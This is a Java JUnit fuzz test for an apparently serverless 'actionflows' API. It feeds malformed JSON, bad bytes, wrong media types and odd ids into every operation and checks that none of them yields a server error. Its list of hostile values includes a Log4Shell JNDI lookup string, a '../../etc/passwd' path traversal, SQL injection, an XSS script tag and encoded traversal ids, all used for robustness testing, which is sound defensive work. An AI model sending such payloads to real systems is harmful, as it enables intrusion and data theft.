package dev.actionflows.flows;

import static org.assertj.core.api.Assertions.assertThat;

import dev.actionflows.json.Json;

import org.jspecify.annotations.Nullable;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;

/** No input leads to a 5xx, or to a response outside of the contract. */
class HostileInputTest {
    /** Replacements for each value of each example. */
    private static final List<@Nullable Object> HOSTILE_VALUES =
            Arrays.asList(
                    null,
                    true,
                    0,
                    -1,
                    Double.MAX_VALUE,
                    "",
                    " ",
                    "\u0000",
                    "\uD83D",
                    "\uDE00\uD83D",
                    "\u202Egnp.exe",
                    "‎",
                    "a".repeat(5_000),
                    "💥".repeat(2_000),
                    "{{".repeat(700),
                    "{{#a}}".repeat(250),
                    "{{project_name",
                    "{{=<% %>=}}<%x%>",
                    "{{#connect_link}}".repeat(90),
                    "../../etc/passwd",
                    "${jndi:ldap://example.com/a}",
                    "' OR 1=1 --",
                    "<script>alert(1)</script>",
                    "9".repeat(90),
                    List.of(),
                    Collections.nCopies(1_000, "a"),
                    Collections.nCopies(26, Map.of("type", "send_text")),
                    Map.of(),
                    Map.of("type", "sms.keyword", "keyword", "\uD83D"),
                    Map.of("\uD83D\u0000/~", "a"),
                    deep(20));

    private final ApiWorld api = new ApiWorld();

    static List<String> operationsWithBody() {
        return ApiWorld.CONTRACT.operations().keySet().stream()
                .filter(Examples::hasJsonBody)
                .toList();
    }

    static List<String> operationsWithId() {
        return ApiWorld.CONTRACT.operations().keySet().stream()
                .filter(it -> it.contains("{"))
                .toList();
    }

    @ParameterizedTest
    @MethodSource("operationsWithBody")
    void any_value_in_place_of_any_other(String operation) {
        Object example = Json.read(Examples.body(operation));
        List<@Nullable Object> bodies = new ArrayList<>();
        for (Object hostile : HOSTILE_VALUES) {
            bodies.addAll(replacements(example, hostile));
        }
        assertThat(bodies).hasSizeGreaterThan(2 * HOSTILE_VALUES.size() - 1);
        for (Object body : bodies) {
            assertHarmless(Examples.call(operation).text("application/json", Json.write(body)));
        }
    }

    @ParameterizedTest
    @MethodSource("operationsWithBody")
    void any_text_in_place_of_json(String operation) {
        for (String body :
                List.of(
                        "",
                        "\u0000",
                        "\uFEFF{}",
                        "{\"name\":\"a\",\"name\":\"b\"}",
                        "{".repeat(10_000),
                        "[".repeat(10_000),
                        "{\"a\":".repeat(40) + "1" + "}".repeat(40),
                        "{\"a\":1e99999}",
                        "{\"a\":" + "1".repeat(1_000) + "}",
                        "{\"" + "a".repeat(100_000) + "\":1}",
                        "{" + unknownProperties(20_000) + "}",
                        "{\"\\ud83d\":1,\"name\":\"\\udc00\"}",
                        "<flow/>",
                        "x".repeat(2_000_000))) {
            assertHarmless(Examples.call(operation).text("application/json", body));
        }
    }

    @ParameterizedTest
    @MethodSource("operationsWithBody")
    void any_bytes_in_place_of_text(String operation) {
        for (byte[] bytes :
                List.of(
                        new byte[] {(byte) 0xC3, (byte) 0x28},
                        new byte[] {(byte) 0xFF, (byte) 0xFE, 0x7B, 0x00},
                        new byte[1_000])) {
            Call call =
                    Examples.call(operation)
                            .text("application/json", Base64.getEncoder().encodeToString(bytes));
            call.event.setIsBase64Encoded(true);

            assertThat(api.send(call).text("code")).isEqualTo("malformed_request");
        }
        Call noBase64 = Examples.call(operation).text("application/json", "{}");
        noBase64.event.setIsBase64Encoded(true);
        assertThat(api.send(noBase64).text("code")).isEqualTo("malformed_request");
    }

    @ParameterizedTest
    @MethodSource("operationsWithBody")
    void any_media_type_in_place_of_json(String operation) {
        for (String type :
                List.of(
                        "",
                        ";",
                        "text/plain",
                        "application/xml",
                        "multipart/form-data; boundary=x",
                        "application/json; charset=utf-16",
                        "application/json, text/html",
                        "\u0000")) {
            assertThat(api.send(Examples.call(operation).text(type, "{}")).status()).isEqualTo(415);
        }
        assertThat(
                        api.send(Examples.call(operation).text("", "{}").without("Content-Type"))
                                .status())
                .isEqualTo(415);
    }

    @ParameterizedTest
    @MethodSource("operationsWithId")
    void any_text_in_place_of_an_id(String operation) {
        for (String id :
                List.of(
                        "",
                        " ",
                        ".",
                        "..",
                        "../" + ApiWorld.PROJECT,
                        "..%2F..%2F" + ApiWorld.PROJECT,
                        ApiWorld.FLOW + "\u0000",
                        ApiWorld.FLOW + "\n",
                        ApiWorld.FLOW.toUpperCase(Locale.ROOT),
                        ApiWorld.FLOW + "#V#1",
                        "P#" + ApiWorld.PROJECT,
                        "*",
                        "flow_ıııııııııııııııı",
                        "\uD83D",
                        "a".repeat(10_000))) {
            assertThat(api.send(Examples.call(operation, _ -> id)).status()).as(id).isEqualTo(404);
        }
        Call none = Examples.call(operation);
        none.event.setPathParameters(null);
        assertThat(api.send(none).status()).isEqualTo(404);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "\u0000", "\uD83D", "../..", "*", "null"})
    void any_text_in_place_of_a_cursor(String cursor) {
        assertHarmless(Call.get("/v1/flows").query("cursor", cursor));
    }

    private void assertHarmless(Call call) {
        Answer answer = api.send(call);
        assertThat(answer.status()).as(call.event.getBody()).isBetween(200, 499);
        assertThat(answer.body().getBytes(StandardCharsets.UTF_8)).hasSizeLessThan(1_000_000);
    }

    /** The document once per value, with that value replaced, and with an additional property. */
    private static List<@Nullable Object> replacements(
            @Nullable Object document, @Nullable Object hostile) {
        List<@Nullable Object> all = new ArrayList<>();
        all.add(hostile);
        switch (document) {
            case Map<?, ?> object -> {
                object.forEach(
                        (name, value) ->
                                replacements(value, hostile)
                                        .forEach(
                                                replaced ->
                                                        all.add(
                                                                with(
                                                                        object,
                                                                        String.valueOf(name),
                                                                        replaced))));
                all.add(with(object, "oneMore", hostile));
            }
            case List<?> list -> {
                for (int index = 0; index < list.size(); index++) {
                    for (Object replaced : replacements(list.get(index), hostile)) {
                        List<@Nullable Object> changed = new ArrayList<>(list);
                        changed.set(index, replaced);
                        all.add(changed);
                    }
                }
            }
            case null, default -> {}
        }
        return all;
    }

    private static Map<String, @Nullable Object> with(
            Map<?, ?> object, String name, @Nullable Object value) {
        Map<String, @Nullable Object> changed = new LinkedHashMap<>();
        object.forEach((key, old) -> changed.put(String.valueOf(key), old));
        changed.put(name, value);
        return changed;
    }

    private static Object deep(int levels) {
        return levels == 0 ? "deep" : List.of(deep(levels - 1));
    }

    private static String unknownProperties(int count) {
        StringBuilder properties = new StringBuilder("\"a\":1");
        for (int i = 0; i < count; i++) {
            properties.append(",\"a").append(i).append("\":1");
        }
        return properties.toString();
    }
}
